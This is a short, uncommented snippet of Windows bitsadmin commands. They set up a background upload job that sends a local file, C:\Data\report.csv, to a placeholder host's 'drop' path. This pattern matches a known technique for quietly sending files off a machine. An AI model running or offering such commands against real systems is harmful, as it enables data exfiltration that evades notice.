bitsadmin /create /upload-reply report
bitsadmin /addfile report https://example.com/drop/report.csv C:\Data\report.csv
bitsadmin /setreplyfilename report C:\Data\reply.xml
bitsadmin /resume report
